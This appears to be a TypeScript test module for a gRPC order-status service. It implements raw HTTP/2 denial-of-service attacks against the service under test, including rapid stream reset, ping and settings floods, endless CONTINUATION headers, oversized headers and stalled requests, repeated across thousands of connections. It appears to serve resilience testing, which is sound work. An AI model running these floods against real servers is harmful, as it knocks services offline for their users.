import { once } from "node:events";
import { setImmediate as nextTurn, setTimeout as sleep } from "node:timers/promises";
import { create, toBinary } from "@bufbuild/protobuf";
import { BatchGetOrderStatusRequestSchema } from "../../gen/oms/orderstatus/v1/order_status_service_pb.ts";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frameOf,
  grpcMessage,
  header,
  NO_WINDOW,
  openRawHttp2,
  type RawHttp2,
  requestHeaders,
} from "../../tools/testkit/raw-http2.ts";
import { createPace } from "./pace.ts";
import { BATCH_GET, GET } from "./requests.ts";
import { type Attack, count, type Target } from "./types.ts";

/** Maximum number of reconnections. */
const MAX_CONNECTIONS = 5_000;

/** Time to wait for a server that does not read, in milliseconds. */
const STALLED_MS = 500;

/** DATA frames of a byte per write, and per stream. */
const SMALL_FRAMES = { perWrite: 256, perStream: 4_000 };

/**
 * Repeats a step on one connection after another, as fast as the server reads and the pace allows.
 */
const overFrames =
  (
    step: (raw: RawHttp2, turn: number, target: Target) => Buffer | undefined,
    options: Parameters<typeof openRawHttp2>[1] = {},
  ): Attack =>
  async (target, result) => {
    const pace = createPace(target.signal);
    while (!target.signal.aborted && result.connections < MAX_CONNECTIONS) {
      const raw = await openRawHttp2(target.port, { localAddress: target.address, ...options });
      result.connections += 1;
      let closed = false;
      raw.closed.finally(() => {
        closed = true;
      });
      for (let turn = 0; !closed && !target.signal.aborted; turn += 1) {
        const bytes = step(raw, turn, target);
        if (bytes === undefined) {
          await sleep(20);
        } else {
          result.sent += 1;
          result.bytes += bytes.length;
          await pace(bytes.length);
          if (!raw.socket.write(bytes)) {
            await Promise.race([once(raw.socket, "drain").catch(() => {}), raw.closed, sleep(STALLED_MS)]);
          } else if (turn % 8 === 0) {
            await nextTurn();
          }
        }
      }
      for (const code of raw.received.resets.values()) {
        count(result.resets, String(code));
      }
      count(
        result.ends,
        closed ? (raw.received.goaway === undefined ? "closed" : `goaway ${raw.received.goaway}`) : "open",
      );
      raw.socket.destroy();
    }
  };

const many = (frame: Buffer, times = 64) => Buffer.concat(Array.from({ length: times }, () => frame));

const streamsOf = (turn: number, each: number) =>
  Array.from({ length: each }, (_, index) => 2 * (turn * each + index) + 1);

const headersOf = (
  { type, authorization }: Target,
  path = GET,
  more: readonly (readonly [string, string])[] = [],
): Buffer =>
  requestHeaders(path, type, authorization === undefined ? more : [["authorization", authorization], ...more]);

const bigRequest = (() => {
  const orderIds = Array.from({ length: 1_000 }, (_, index) => BigInt(index + 1));
  return grpcMessage(
    toBinary(BatchGetOrderStatusRequestSchema, create(BatchGetOrderStatusRequestSchema, { orderIds })),
  );
})();

/** Attacks by frames that an HTTP/2 library does not send. */
export const FRAME_ATTACKS = {
  "streams opened and reset at once": overFrames((_raw, turn, target) =>
    Buffer.concat(
      streamsOf(turn, 32).flatMap((stream) => [
        frameOf(FRAME.headers, END_HEADERS, stream, headersOf(target)),
        frameOf(FRAME.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  ),
  "more streams than allowed": overFrames((_raw, turn, target) =>
    turn < 400
      ? Buffer.concat(
          streamsOf(turn, 32).map((stream) => frameOf(FRAME.headers, END_HEADERS, stream, headersOf(target))),
        )
      : undefined,
  ),
  "a flood of pings": overFrames(() => many(frameOf(FRAME.ping, 0, 0, Buffer.alloc(8)))),
  "a flood of pings without reading the answers": overFrames((raw) => {
    raw.socket.pause();
    return many(frameOf(FRAME.ping, 0, 0, Buffer.alloc(8)));
  }),
  "a flood of settings": overFrames(() => many(frameOf(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])))),
  "a flood of empty data": overFrames((_raw, turn, target) =>
    turn === 0 ? frameOf(FRAME.headers, END_HEADERS, 1, headersOf(target)) : many(frameOf(FRAME.data, 0, 1)),
  ),
  "a byte per DATA frame": overFrames((_raw, turn, target) => {
    const turns = Math.ceil(SMALL_FRAMES.perStream / SMALL_FRAMES.perWrite);
    const stream = 2 * Math.floor(turn / turns) + 1;
    const frames = many(frameOf(FRAME.data, 0, stream, Buffer.of(1)), SMALL_FRAMES.perWrite);
    return turn % turns === 0
      ? Buffer.concat([
          frameOf(FRAME.headers, END_HEADERS, stream, headersOf(target)),
          frameOf(FRAME.data, 0, stream, grpcMessage(Buffer.alloc(0), 0x3f_ff_ff)),
          frames,
        ])
      : frames;
  }),
  "endless headers": overFrames((_raw, turn, target) =>
    turn === 0
      ? frameOf(FRAME.headers, 0, 1, headersOf(target))
      : many(frameOf(FRAME.continuation, 0, 1, header("x", "y"))),
  ),
  "too many headers": overFrames((_raw, turn, target) => {
    const lines = Array.from({ length: 300 }, (_, index): [string, string] => [`x-${index}`, "y"]);
    return frameOf(FRAME.headers, END_HEADERS | END_STREAM, 2 * turn + 1, headersOf(target, GET, lines));
  }),
  "headers that are too large": overFrames((_raw, turn, target) => {
    const lines: [string, string][] = Array.from({ length: 5 }, (_, index) => [`x-${index}`, "y".repeat(16_000)]);
    const block = headersOf(target, GET, lines);
    const pieces = Array.from({ length: Math.ceil(block.length / 16_000) }, (_, index) =>
      block.subarray(index * 16_000, (index + 1) * 16_000),
    );
    return Buffer.concat(
      pieces.map((piece, index) =>
        frameOf(
          index === 0 ? FRAME.headers : FRAME.continuation,
          (index === 0 ? END_STREAM : 0) | (index === pieces.length - 1 ? END_HEADERS : 0),
          2 * turn + 1,
          piece,
        ),
      ),
    );
  }),
  "large responses that are not read": overFrames(
    (_raw, turn, target) =>
      turn < 200
        ? Buffer.concat([
            frameOf(FRAME.headers, END_HEADERS, 2 * turn + 1, headersOf(target, BATCH_GET)),
            frameOf(FRAME.data, END_STREAM, 2 * turn + 1, bigRequest),
          ])
        : undefined,
    { settings: NO_WINDOW },
  ),
  "a request that never completes": overFrames((raw, turn, target) => {
    if (turn === 0) {
      return Buffer.concat([
        frameOf(FRAME.headers, END_HEADERS, 1, headersOf(target)),
        frameOf(FRAME.data, 0, 1, grpcMessage(Buffer.alloc(0), 0xff_ff_ff)),
      ]);
    }
    return raw.received.resets.size > 0 ? undefined : frameOf(FRAME.data, 0, 1, Buffer.alloc(16_000));
  }),
} satisfies Record<string, Attack>;
